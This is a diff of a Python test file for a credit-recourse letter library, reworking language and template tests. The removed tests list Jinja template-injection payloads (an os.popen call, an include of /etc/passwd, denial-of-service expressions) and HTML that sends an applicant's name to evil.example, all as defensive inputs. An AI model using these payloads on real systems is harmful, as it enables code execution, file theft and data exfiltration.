@@ -7,7 +7,6 @@ import datetime
 import hashlib
 import re
 import sys
-import tomllib
 from dataclasses import replace
 from html.parser import HTMLParser
 from importlib import resources
@@ -23,14 +22,14 @@ from armin import ARMIN, ImputationAR
 from armin.datasets import make_loans
 from armin.errors import DataError, MissingDependencyError, ParameterError, SchemaError
 from armin.impute import NativeMissing
-from armin.letter import check_reference, languages, new_reference, read_own, try_own, write_letter
-from armin.letter.content import sections
-from armin.letter.texts import load_texts
-from armin.letter.wording import Wording
+from armin.letter import check_reference, check_words, new_reference, read_words, write_letter
+from armin.letter.content import Notice, sections
 from armin.problem import Status
+from armin.promise import Calibration
 from armin.recourse import Change, Recourse, Validity
-from armin.report.words import change_sentence
+from armin.recourse.certificate import Certificate
 from armin.schema import Feature, Schema
+from armin.words import catalogue
 
 pytest.importorskip("jinja2", reason="letters need jinja2, the extra 'web'")
 
@@ -45,7 +44,6 @@ SCHEMA = Schema(
     )
 )
 ROW = {"balance": 72, "loans": 3, "income": None, "purpose": "new car", "months": None, "age": 41}
-TEXTS = {code: load_texts(code) for code in ("en", "de")}
 DAY = datetime.date(2026, 11, 15)
 
 
@@ -202,16 +200,17 @@ def test_locked_features_are_named_and_respected():
 
 
 def test_a_promise_is_said_in_the_language_of_the_letter():
-    from armin.letter.content import Case
-
-    promise = {"promise": 0.9, "best": 0.8, "assurance": 0.95, "kept": True, "people": 1200, "held_out": False}
     said = {}
     for language in ("en", "de"):
-        for kept, best in ((True, 0.8), (False, 0.8), (False, 0.0)):
-            summary = PLAN.to_dict() | {"certificate": {"promise": {**promise, "kept": kept, "best": best}}}
-            case = Case(summary, (), (), DAY, DAY, Wording(load_texts(language), SCHEMA))
-            sure = next(part for part in sections(case) if part.name == "sure")
-            said[language, kept, best] = flat(" ".join(sure.before))
+        for level, best in ((0.8, 0.8), (None, 0.8), (None, 0.0)):
+            tested = Calibration(0.9, 0.95, level, best, 1.0, 1200, "same", (), held_out=False)
+            grounds = Certificate(
+                PLAN.status, 1.0, 0.0, 0.75, PLAN.validity, PLAN.fresh, None, tested, None, 2, "donors", 100, 0
+            )
+            plan = replace(PLAN, certificate=grounds)
+            notice = Notice(plan, (), SCHEMA, (), DAY, DAY, catalogue(language))
+            sure = next(part for part in sections(notice) if part.name == "sure")
+            said[language, level is not None, best] = flat(" ".join(sure.before))
     assert "1,200 real people. From this we can promise: at least 90 %" in said["en", True, 0.8]
     assert "may have known" in said["en", True, 0.8]
     assert "and cannot: what we can promise is 80 %" in said["en", False, 0.8]
@@ -277,50 +276,23 @@ def changes(draw):
     return Change(feature, mode, before, draw(value), amount, 1.0)
 
 
-@settings(deadline=None, max_examples=200)
-@given(changes())
-def test_english_sentences_are_those_of_the_report(made):
-    english = Wording(TEXTS["en"], Schema((made.feature,)))
-    assert english.change(made.to_dict()) == change_sentence(made.to_dict())
-
-
 @settings(deadline=None, max_examples=100)
 @given(changes())
 def test_german_sentences_hold_the_same_digits(made):
-    said = Wording(TEXTS["de"], Schema((made.feature,))).change(made.to_dict())
+    said = made.message.text("de")
     assert re.sub(r"\D", "", said) == re.sub(r"\D", "", made.to_dict()["sentence"])
     assert not re.search(r"\b(Raise|Lower|Change|Bring|Make)\b", said)
 
 
-def test_german_numbers():
+def test_german_values():
     rate = Feature("rate", "continuous", lower=0, upper=1e7, unit="€", step=0.5)
     km = Feature("km", "continuous", lower=0, upper=1e7, format="{:,.1f} km")
     grade = Feature("grade", "ordinal", categories=("a", "b", "c"))
-    german = Wording(load_texts("de"), Schema((rate, km, grade)))
-    assert german.value(rate, 1234567.5) == "1.234.567,5 €"
-    assert german.value(rate, None) == "nicht angegeben"
-    assert german.value(km, 1234.5) == "1.234,5 km"
-    assert (german.amount(grade, -1), german.amount(grade, 2)) == ("1 Stufe", "2 Stufen")
-    assert (german.percent(0.999), german.percent(0.975, down=True)) == ("99,9\xa0%", "97,5\xa0%")
-    assert german.percent(1e-12) == "unter 0,000001\xa0%"
-
-
-def leaves(table, path=()):
-    for key, value in table.items():
-        if isinstance(value, dict):
-            yield from leaves(value, (*path, key))
-        else:
-            yield (*path, key), value
-
-
-def test_the_languages_have_the_same_texts_with_the_same_holes():
-    folder = resources.files("armin.letter").joinpath("texts")
-    tables = [dict(leaves(tomllib.loads(folder.joinpath(f"{code}.toml").read_text("utf-8")))) for code in languages()]
-    for table in tables[1:]:
-        assert table.keys() == tables[0].keys()
-        for key, text in table.items():
-            if isinstance(text, str):
-                assert sorted(re.findall(r"\{\w+\}", text)) == sorted(re.findall(r"\{\w+\}", tables[0][key])), key
+    german = catalogue("de")
+    assert rate.said(1234567.5).said(german) == "1.234.567,5 €"
+    assert rate.said(None).said(german) == "nicht angegeben"
+    assert km.said(1234.5).said(german) == "1.234,5 km"
+    assert [grade.said_amount(amount).said(german) for amount in (-1, 2)] == ["1 Stufe", "2 Stufen"]
 
 
 # --- a company's own words --------------------------------------------------------------------------------------------
@@ -333,14 +305,13 @@ def test_own_words_labels_and_values_with_the_rest_as_packaged(tmp_path):
     )  # fmt: skip
     months = replace(PLAN, changes=(change("months", "shift", None, None, 6.0),))
     text = flat(letter((PLAN, months), language="de", templates=tmp_path).text)
-    for said in ("IHR WEG", "Senken Sie „Zahl der Kredite“ von 3 auf 2.", "von Neuwagen zu used car", "um 6 Monate",
-                 "„bewilligt“", "WIE SICHER DAS IST"):  # fmt: skip
+    for said in ("IHR WEG", "Senken Sie „Zahl der Kredite“ (derzeit 3) auf 2.", "(derzeit „Neuwagen“) zu „used car“",
+                 "um 6 Monate", "„bewilligt“", "WIE SICHER DAS IST"):  # fmt: skip
         assert said in text
 
 
 def test_own_language_falls_back_to_english(tmp_path):
     (tmp_path / "fr.toml").write_text('[plan]\ntitle = "Votre plan"\n', "utf-8")
-    assert languages(tmp_path) == ("de", "en", "fr")
     made = letter(language="fr", templates=tmp_path)
     assert "Votre plan" in made.html
     assert "Principal reasons" in made.html
@@ -365,11 +336,15 @@ def test_own_template_and_style(tmp_path):
         ("en.toml", "[plan]\ntitle = 3\n", "'plan.title' of language 'en' must be a text"),
         ("en.toml", "plan = 3\n", "plan must be a table"),
         ("en.toml", '[plan]\ntitle = "for {whom}"\n', "asks for {whom}, which it is not given"),
-        ("en.toml", "[language]\nmonths = 3\n", "must be a list of texts"),
+        ("en.toml", "[language]\nnumbers = 3\n", "must be a list of texts"),
+        ("en.toml", '[language]\nlocale = "xx_YY"\n', "must be a locale"),
+        ("en.toml", '[plan]\ngap = "{gap:roman}"\n', "writes {gap} as roman, which is not known"),
+        ("en.toml", '[plan]\ntitle = "{"\n', "cannot be read"),
+        ("en.toml", '[plan]\ntitle = "\\u001b[2J"\n', "holds a control character"),
+        ("fr.toml", '[plan]\ntitle = { one = "plan" }\n', "needs the form 'other'"),
         ("letter.html.j2", "{{ nonsense }}", "'nonsense' is undefined"),
         ("letter.html.j2", "{% if %}", "cannot be used"),
-        ("letter.html.j2", "{{ ''.__class__.__mro__ }}", "cannot be used"),
-        ("letter.txt.j2", "{{ sections.append(1) }}", "cannot be used"),
+        ("letter.txt.j2", "{{ 1 / 0 }}", "cannot be used"),
     ],
 )
 def test_mistakes_in_own_files_are_named(tmp_path, name, content, message):
@@ -386,162 +361,51 @@ def test_unknown_language_lists_those_there_are():
         letter(templates="/no/such/folder")
 
 
-# --- own files from a bundle, which anybody may have made -----------------------------------------------------------
-
-DOCUMENT = "<!doctype html>\n<html><head><title>{{ title }}</title></head><body>%s</body></html>"
+# --- own words from a bundle, which anybody may have made ----------------------------------------------------------
 
 
-def test_files_by_name_say_what_the_folder_says(tmp_path):
+def test_words_by_language_say_what_the_folder_says(tmp_path):
     (tmp_path / "de.toml").write_text('[plan]\ntitle = "Ihr Weg"\n[own]\nmotto = "A & B"\n', "utf-8")
     (tmp_path / "fr.toml").write_text('[plan]\ntitle = "Votre plan"\n', "utf-8")
     (tmp_path / "letter.css").write_text("p { color: #123456 }", "utf-8")
-    (tmp_path / "letter.txt.j2").write_text("{{ texts.plan.title }}: {{ '%2d' | format(sections | length) }}", "utf-8")
-    (tmp_path / ".hidden").write_text("x", "utf-8")
-    files = try_own(read_own(tmp_path))
-    assert sorted(files) == ["de.toml", "fr.toml", "letter.css", "letter.txt.j2"]
-    assert languages(files) == languages(tmp_path) == ("de", "en", "fr")
-    for language in languages(files):
+    words = check_words(read_words(tmp_path))
+    assert sorted(words) == ["de", "fr"]
+    for language in ("de", "en", "fr"):
         same = {"language": language, "reference": "R"}
-        inside, outside = letter(templates=files, **same), letter(templates=tmp_path, **same)
-        assert inside.text == outside.text
-        assert re.sub("<meta http-equiv[^>]*>\n", "", inside.html) == outside.html
+        assert letter(words=words, **same).text == letter(templates=tmp_path, **same).text
+    assert "#123456" not in letter(words=words).html  # a layout comes from a folder only
 
 
-def test_packaged_templates_pass_the_rules_for_bundles():
-    folder = resources.files("armin.letter").joinpath("templates")
-    files = {entry.name: entry.read_text("utf-8") for entry in folder.iterdir()}
-    assert len(files) == 3
-    try_own(files)
-    made = letter(templates=files, reference="R")
-    assert made.text == letter(reference="R").text
-    policy = dict(Page(made.html).tags[2][1])  # html, head, meta: before anything that could load or run
-    assert (policy["http-equiv"], policy["content"]) == ("Content-Security-Policy", made.content_security_policy)
+def test_words_of_a_folder_go_before_those_of_a_bundle(tmp_path):
+    (tmp_path / "en.toml").write_text('[plan]\ntitle = "Our way"\n', "utf-8")
+    made = letter(words={"en": {"plan": {"title": "Their way"}}}, templates=tmp_path)
+    assert "Our way" in made.html
+    assert "Their way" not in made.html
 
 
-ATTACKS = {
-    "code": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-    "code through a format": "{{ '{0.__class__}'.format(title) }}",
-    "code through a filter": "{{ title | attr('__class__') }}",
-    "code through map": "{{ sections | map(attribute='__class__') | list }}",
-    "code through a global": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
-    "code through self": "{{ self.__init__.__globals__ }}",
-    "underscores": "{{ sections[0].__class__ }}",
-    "a method": "{{ title.upper }}{{ sections[0].title.encode }}",
-    "a call": "{{ range(9) }}",
-    "a file": "{% include '/etc/passwd' %}",
-    "a file above": "{% include '../texts/en.toml' %}",
-    "a computed file": "{% include texts.letter.title %}",
-    "an import": "{% import 'letter.css' as x %}",
-    "itself": "{% include 'letter.html.j2' %}",
-    "extends": "{% extends 'letter.txt.j2' %}",
-    "a macro": "{% macro a() %}{% endmacro %}",
-    "doubling": "{% set a = title ~ title %}",
-    "joining": "{{ title | join(title) | join(title) }}",
-    "a power": "{{ 9 ** 9 ** 9 }}",
-    "repetition": "{{ 'a' * 999999999 }}",
-    "a wide field": "{{ '%999999999d' | format(1) }}",
-    "a wide field from a value": "{{ '%*d' | format(99999999, 1) }}",
-    "wide lines": "{{ title | fill('', 999999999) }}",
-    "deep loops": "{% for a in title %}{% for b in title %}{% for c in title %}{% endfor %}{% endfor %}{% endfor %}",
-    "many loops": "{% for a in title %}{% endfor %}" * 41,
-    "a recursive loop": "{% for a in sections recursive %}{{ loop(sections) }}{% endfor %}",
-    "unescaped": "{{ applicant | safe }}",
-    "escaping off": "{% autoescape false %}{{ applicant }}{% endautoescape %}",
-    "division by nothing": "{{ 1 / 0 }}",
-}
-
-
-@pytest.mark.parametrize("attack", ATTACKS)
-@pytest.mark.parametrize("name", ["letter.html.j2", "letter.txt.j2", "letter.css"])
-def test_a_template_from_a_bundle_lays_out_and_does_nothing_else(attack, name):
-    files = {name: DOCUMENT % ATTACKS[attack] if name == "letter.html.j2" else ATTACKS[attack]}
-    for use in (try_own, lambda files: letter(templates=files)):
-        with pytest.raises(ParameterError, match=r"template|filter"):
-            use(files)
+def test_words_are_text_and_never_code():
+    words = {"en": {"letter": {"greeting_unknown": "Hi <script>alert(1)</script> {{ 7 * 7 }}"}}}
+    made = letter(words=words)
+    assert "Hi <script>alert(1)</script> { 7 * 7 }" in made.text
+    assert "Hi &lt;script&gt;alert(1)&lt;/script&gt; { 7 * 7 }" in made.html
+    for code in ("{applicant.__class__}", "{applicant[0]}", "{applicant!r:>99999999}", "{:99999999}"):
+        with pytest.raises(ParameterError):
+            check_words({"en": {"letter": {"greeting": f"Dear {code}"}}})
 
 
 @pytest.mark.parametrize(
-    "markup",
+    ("words", "message"),
     [
-        "<script>alert(1)</script>",
-        "<SCRIPT src=//evil.example></SCRIPT>",
-        '<scr{{ "ipt" }}>alert(1)</script>',
-        '<meta http-equiv="refresh" content="0;url=https://evil.example/{{ applicant }}">',
-        '<meta name="x" content="y" http-equiv=refresh>',
-        '<link rel="preconnect" href="https://{{ applicant }}.evil.example">',
-        "<iframe src=//evil.example></iframe>",
-        "<base href=//evil.example>",
-        "<form action=//evil.example><input name=x></form>",
-        "<object data=x></object>",
+        (["en"], "mapping of language to tables"),
+        ({"en": "x"}, "mapping of language to tables"),
+        ({"en": {"plan": "x"}}, "must be a table"),
+        ({"en": {"plan": {"title": "{whom}"}}}, "asks for {whom}"),
+        ({"klingon": {"plan": {"title": "x"}}}, "must be a locale"),
     ],
 )
-def test_a_page_from_a_bundle_loads_sends_and_runs_nothing(markup):
-    with pytest.raises(ParameterError, match="text, tables and style only"):
-        letter(templates={"letter.html.j2": DOCUMENT % markup}, applicant="Ada")
-    style = "</style>" + markup
-    with pytest.raises(ParameterError, match="text, tables and style only"):
-        letter(templates={"letter.css": style}, applicant="Ada")
-
-
-def test_a_page_from_a_bundle_keeps_its_policy_before_all_else():
-    page = letter(templates={"letter.html.j2": "<!doctype html><html onclick=alert(1)><body onload=alert(1)>"}).html
-    assert page.index("Content-Security-Policy") < page.index("onclick")
-    with pytest.raises(ParameterError, match="must begin with <!doctype html>"):
-        letter(templates={"letter.html.j2": "<b onclick=alert(1)><!doctype html>"})
-    made = letter(templates={"en.toml": '[letter]\ngreeting_unknown = "Hi \\u001b[2J<script>{{ 7 * 7 }}"\n'})
-    assert "Hi [2J<script>{{ 7 * 7 }}" in made.text
-    assert "Hi [2J&lt;script&gt;{{ 7 * 7 }}" in made.html
-
-
-def test_a_page_without_end_is_cut_off():
-    entries = ", ".join(f'"{"x" * 200}"' for _ in range(200))
-    files = {
-        "en.toml": f"[own]\nlines = [{entries}]\n",
-        "letter.txt.j2": "{% for a in texts.own.lines %}{% for b in texts.own.lines %}{{ b }}{% endfor %}{% endfor %}",
-    }
-    with pytest.raises(ParameterError, match="longer than"):
-        letter(templates=files)
-
-
-@pytest.mark.parametrize(
-    ("files", "message"),
-    [
-        ({"../en.toml": ""}, "is no letter file"),
-        ({"logo.png": ""}, "is no letter file"),
-        ({"en.toml": "x" * 70_000}, "at most 65,536 characters"),
-        ({"en.toml": "[plan"}, "not valid TOML"),
-        ({"en.toml": "a = " + "[" * 30_000}, "not valid TOML"),
-        ({"en.toml": "[plan]\ntitle = 3"}, "plan.title in en.toml must be a text"),
-        ({"en.toml": "[own]\nlist = [[1]]"}, "own.list in en.toml must be a text"),
-        ({"en.toml": f'[own]\nlong = "{"x" * 4001}"'}, "at most 4,000 characters"),
-        ({"en.toml": f"[own]\nlist = [{'1,' * 201}]"}, "at most 200 entries"),
-        ({"en.toml": "[a.b.c.d.e.f.g.h]"}, "at most 6 deep"),
-        ({f"a{a}{b}.toml": "" for a in "abcde" for b in "abcde"}, "at most 24"),
-        ({"en.toml": b"x"}, "mapping of file name to text"),
-        (["en.toml"], "mapping of file name to text"),
-        ({"en.toml": '[plan]\ntitle = "{whom}"'}, "asks for {whom}"),
-        ({"fr.toml": '[language]\nmonths = ["mai"]'}, "needs 12 names"),
-        ({"en.toml": 'plan = "x"'}, "must be a table"),
-    ],
-)
-def test_mistakes_in_files_for_a_bundle_are_named(files, message):
+def test_mistakes_in_words_for_a_bundle_are_named(words, message):
     with pytest.raises((ParameterError, DataError), match=re.escape(message)):
-        try_own(files)
-
-
-def test_a_folder_for_a_bundle_holds_letter_files_only(tmp_path):
-    with pytest.raises(ParameterError, match="is none"):
-        read_own(tmp_path / "nowhere")
-    (tmp_path / "de.toml").write_bytes("Größe".encode("latin-1"))
-    with pytest.raises(ParameterError, match=r"de\.toml cannot be read as a text"):
-        read_own(tmp_path)
-    (tmp_path / "de.toml").write_bytes(b"x" * 300_000)
-    with pytest.raises(ParameterError, match="too long"):
-        read_own(tmp_path)
-    (tmp_path / "de.toml").unlink()
-    (tmp_path / "logo.png").write_bytes(b"x")
-    with pytest.raises(ParameterError, match=r"'logo\.png' is no letter file"):
-        read_own(tmp_path)
+        check_words(words)
 
 
 # --- hostile words ----------------------------------------------------------------------------------------------------
@@ -570,7 +434,7 @@ def test_hostile_words_are_shown_as_text():
     assert f"Dear {EVIL}," in page.text
     assert f"Lower {EVIL} from 3 <b> to 2 <b>." in page.text
     assert "49" not in page.text
-    assert "Change <i>p from <img src=x> to b." in page.text
+    assert "Change <i>p from “<img src=x>” to “b”." in page.text
 
 
 def test_a_name_cannot_write_lines_of_its_own():
